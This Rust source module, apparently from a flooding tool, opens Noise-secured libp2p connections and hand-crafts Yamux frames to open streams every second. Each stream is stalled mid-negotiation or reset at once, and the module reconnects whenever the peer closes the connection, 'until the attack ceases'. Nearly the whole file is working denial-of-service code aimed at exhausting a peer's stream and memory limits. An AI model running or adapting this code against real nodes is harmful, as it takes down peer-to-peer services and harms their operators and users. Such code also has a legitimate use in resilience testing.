//! Streams without end on one connection. Noise is libp2p's; Yamux is written by hand, since a proper one opens no more
//! streams than it was told to.

use std::io;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use futures::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use libp2p::core::upgrade::OutboundConnectionUpgrade;
use libp2p::{identity, noise};
use tokio::time::{interval, timeout};
use tokio_util::compat::TokioAsyncReadCompatExt;

use super::words::MULTISTREAM;
use super::{Kind, STREAMS, Shared, add, connections};

/// How long the handshakes may take.
const HANDSHAKE: Duration = Duration::from_secs(5);

const NOISE: &[u8] = b"\x07/noise\n";
const YAMUX: &[u8] = b"\x0d/yamux/1.0.0\n";

/// Keeps one connection full of streams: whenever the peer closes it there is another, until the attack ceases.
pub(super) async fn again_and_again(shared: Arc<Shared>) {
    while shared.permit().await {
        match timeout(HANDSHAKE, open(&shared)).await {
            Ok(Ok(connection)) => {
                add(&shared.opened, 1);
                add(&shared.open, 1);
                // However it ends, the peer has closed it.
                let _ = crowd(&shared, connection).await;
                shared.open.fetch_sub(1, Ordering::Relaxed);
            }
            Ok(Err(_)) | Err(_) => add(&shared.failed, 1),
        }
    }
}

type Secure = noise::Output<tokio_util::compat::Compat<tokio::net::TcpStream>>;

/// A connection of a peer of its own, up to the point where streams begin.
async fn open(shared: &Shared) -> io::Result<Secure> {
    let mut stream = connections::connect(shared, 0).await?.compat();
    agree(&mut stream, NOISE).await?;
    let keys = identity::Keypair::generate_ed25519();
    let noise = noise::Config::new(&keys).map_err(io::Error::other)?;
    let (_, mut secure) = noise.upgrade_outbound(stream, "/noise").await.map_err(io::Error::other)?;
    agree(&mut secure, YAMUX).await?;
    Ok(secure)
}

/// Proposes a protocol, and hears it agreed to (multistream-select 1.0).
async fn agree(stream: &mut (impl AsyncRead + AsyncWrite + Unpin), protocol: &[u8]) -> io::Result<()> {
    let proposal = [MULTISTREAM, protocol].concat();
    stream.write_all(&proposal).await?;
    stream.flush().await?;
    let mut answer = vec![0; proposal.len()];
    stream.read_exact(&mut answer).await?;
    if answer == proposal { Ok(()) } else { Err(io::ErrorKind::InvalidData.into()) }
}

/// A frame of Yamux: a version, what it is, flags, the stream, and a length.
fn frame(kind: u8, flags: u16, stream: u32, length: u32) -> [u8; 12] {
    let ([f0, f1], [s0, s1, s2, s3], [l0, l1, l2, l3]) =
        (flags.to_be_bytes(), stream.to_be_bytes(), length.to_be_bytes());
    [0, kind, f0, f1, s0, s1, s2, s3, l0, l1, l2, l3]
}

const DATA: u8 = 0;
const SYN: u16 = 1;
const RESET: u16 = 8;

/// Opens [`STREAMS`] each second, each with the first line of a negotiation that does not go on, or is reset at once.
async fn crowd(shared: &Shared, connection: Secure) -> io::Result<()> {
    let (mut reader, mut writer) = connection.split();
    let listen = async {
        let mut heard = vec![0; 4096];
        while reader.read(&mut heard).await? > 0 {}
        Ok(())
    };
    let talk = async {
        let mut tick = interval(Duration::from_secs(1));
        let mut id = 1_u32;
        loop {
            tick.tick().await;
            for _ in 0..STREAMS {
                let line = u32::try_from(MULTISTREAM.len()).map_err(io::Error::other)?;
                writer.write_all(&frame(DATA, SYN, id, line)).await?;
                writer.write_all(MULTISTREAM).await?;
                if shared.plan.kind == Kind::Resets {
                    writer.write_all(&frame(DATA, RESET, id, 0)).await?;
                }
                add(&shared.streams, 1);
                // Streams of whoever dialled are odd.
                id = id.checked_add(2).ok_or(io::ErrorKind::Other)?;
            }
            writer.flush().await?;
            if shared.permits.is_closed() {
                return std::future::pending::<io::Result<()>>().await;
            }
        }
    };
    tokio::select! {
        end = listen => end,
        end = talk => end,
    }
}

#[cfg(test)]
mod tests {
    use super::{DATA, SYN, frame};

    #[test]
    fn a_frame_has_twelve_bytes_in_the_order_of_the_network() {
        assert_eq!(frame(DATA, SYN, 0x0102_0304, 20), [0, 0, 0, 1, 1, 2, 3, 4, 0, 0, 0, 20]);
    }
}
